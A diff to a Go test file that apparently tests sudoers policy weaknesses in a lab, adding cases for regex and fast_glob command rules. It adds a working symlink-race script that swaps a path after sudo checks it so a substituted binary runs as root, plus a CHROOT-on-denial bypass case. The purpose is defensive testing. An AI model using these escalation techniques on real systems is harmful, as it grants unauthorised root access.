@@ -20,6 +20,8 @@ type way struct {
 	beside string
 	// script is what the user agent does with it, shows what it prints when it worked.
 	script, shows string
+	// since is the first version of sudo that has it, zero for all.
+	since sudoers.Version
 	// never is a statement that must not be proven, finding an id that must be found; either may be empty.
 	never, finding string
 }
@@ -34,7 +36,19 @@ chmod 755 ~/jail/usr/bin/pveversion
 
 const owner = "stat -c 'owner %u' ~/jail/owned"
 
+// turned types the path of pveversion through a link that leads to another program once sudo has looked.
+const turned = `rm -rf ~/d ~/evil; ln -s /usr/bin ~/d; mkdir ~/evil; cp /usr/bin/id ~/evil/pveversion
+( sleep 1; ln -sfn ~/evil ~/d; echo secret; sleep 1 ) | sudo -S -k ~/d/pveversion 2>&1`
+
 var ways = []way{
+	{
+		name: "a path by an expression", policy: "agent ALL=(root) ^/usr/bin/pveversion$",
+		script: turned, shows: "uid=0(root)", since: sudoers.Version{Major: 1, Minor: 9, Patch: 14}, never: "/usr/bin/bash", finding: "PVESEC-E0024",
+	},
+	{
+		name: "a path by a pattern with fast_glob", policy: "Defaults:agent fast_glob\nagent ALL=(root) /usr/bin/pveversio[n]",
+		script: turned, shows: "uid=0(root)", since: sudoers.Version{Major: 1, Minor: 9, Patch: 14}, never: "/usr/bin/bash", finding: "PVESEC-E0002",
+	},
 	{
 		name: "CHROOT on a denial", policy: "agent ALL=NOPASSWD: /usr/bin/bash, CHROOT=/nonexistent !/usr/bin/*",
 		script: "sudo -n /usr/bin/bash -c id", shows: "uid=0(root)", never: "/usr/bin/bash",
@@ -115,11 +129,14 @@ func TestWaysThrough(t *testing.T) {
 		t.Run(version.String(), func(t *testing.T) {
 			t.Parallel()
 			node := lab.ForTest(t, lab.ClusterSpec{Nodes: []lab.NodeSpec{{Name: "sudo", Suite: suite}}}).Nodes[0]
-			const settle = "useradd -m -s /bin/sh agent; test -e /usr/bin/pveversion || cp /bin/true /usr/bin/pveversion"
+			const settle = "useradd -m -s /bin/sh agent; echo agent:secret | chpasswd; test -e /usr/bin/pveversion || cp /bin/true /usr/bin/pveversion"
 			if _, err := node.Shell(t.Context(), settle); err != nil {
 				t.Fatal(err)
 			}
 			for _, w := range ways {
+				if !version.AtLeast(w.since) {
+					continue
+				}
 				for path, text := range map[string]string{"/etc/sudoers": w.beside + "Defaults !fqdn\n@includedir /etc/sudoers.d\n", wayFile: w.policy + "\n"} {
 					if err := node.WriteFile(t.Context(), path, text, 0o440); err != nil {
 						t.Fatal(err)
